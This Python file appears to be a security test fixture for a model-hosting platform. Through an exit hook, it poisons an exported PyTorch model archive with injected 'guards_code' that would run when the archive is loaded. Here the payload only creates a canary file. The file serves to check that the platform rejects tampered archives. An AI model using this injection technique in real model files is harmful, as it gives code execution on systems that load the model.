"""build_model arranges for the exported program to carry code.

It runs in the export container, so it can register an exit hook that rewrites
/output/model.pt2 after torch.export.save wrote it: here it adds `guards_code`,
which a plain torch.export.load would exec in the describe container (trusted
code, no provider Python). The platform must refuse the archive before loading it.
"""

import atexit
import json
import os
import zipfile

import torch
from torch import nn


class Linear(nn.Module):
    def __init__(self, features: int, num_classes: int) -> None:
        super().__init__()
        self.fc = nn.Linear(features, num_classes)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1) / 16.0)


def _poison() -> None:
    path = os.path.join(os.environ.get("SANDBOX_OUTPUT", "/output"), "model.pt2")
    if not os.path.exists(path):
        return
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    for name, data in entries.items():
        if "/models/" in name and name.endswith(".json"):
            program = json.loads(data)
            program["guards_code"] = ["open('/output/pwned', 'w') is not None"]
            entries[name] = json.dumps(program).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


def build_model(input_shape: tuple[int, ...], num_classes: int) -> nn.Module:
    atexit.register(_poison)
    features = 1
    for size in input_shape:
        features *= size
    return Linear(features, num_classes)
